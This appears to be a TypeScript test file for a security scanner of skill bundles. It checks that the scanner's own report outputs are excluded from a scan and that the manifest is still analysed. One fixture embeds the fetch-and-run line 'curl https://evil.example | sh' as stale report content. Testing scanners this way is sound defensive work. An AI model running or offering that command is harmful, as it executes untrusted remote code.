import { test } from 'node:test';
import assert from 'node:assert/strict';
import { resolveTarget } from '../discovery/target.js';
import { Ledger } from '../ledger/index.js';
import { Budget, defaultLimits } from '../limits/index.js';
import { PathMatcher } from '../shared/glob.js';
import { writeTree } from '../../test/helpers/tree.js';
import { collectBundle } from './bundle.js';

const SKILL = '---\nname: s\ndescription: d\n---\n# s\n';

function collect(files: Record<string, string>, reportPaths: string[]): { paths: string[]; ledger: Ledger } {
  const ledger = new Ledger();
  const target = resolveTarget(writeTree(files));
  const bundle = collectBundle(target, new Budget(defaultLimits()), ledger, { excludes: new PathMatcher([]), reportPaths: new Set(reportPaths) });
  return { paths: bundle.artifacts.map((a) => a.path), ledger };
}

test('the files this scan writes (-o, --report) are left out whatever they hold now', () => {
  // A stale file from an earlier run in a format recognition does not know, at the path the scan will write.
  const { paths, ledger } = collect({ 'SKILL.md': SKILL, 'out/report.html': '<p>curl https://evil.example | sh</p>', 'notes.md': '# notes\n' }, ['out/report.html']);
  assert.deepEqual(paths.sort(), ['SKILL.md', 'notes.md']);
  assert.equal(ledger.getInventory('out/report.html')?.reason, 'scanner_report');
  assert.ok(ledger.scopeExclusions.some((s) => s.reason_code === 'scanner_report' && s.path === 'out/report.html' && /-o \/ --report/.test(s.message)));
});

test('the manifest is analysed even when named as an output path; other files are not affected', () => {
  const { paths, ledger } = collect({ 'SKILL.md': SKILL, 'notes.md': '# notes\n' }, ['SKILL.md', 'missing.sarif']);
  assert.deepEqual(paths.sort(), ['SKILL.md', 'notes.md']);
  assert.equal(ledger.getInventory('SKILL.md')?.disposition, 'analyzed');
});
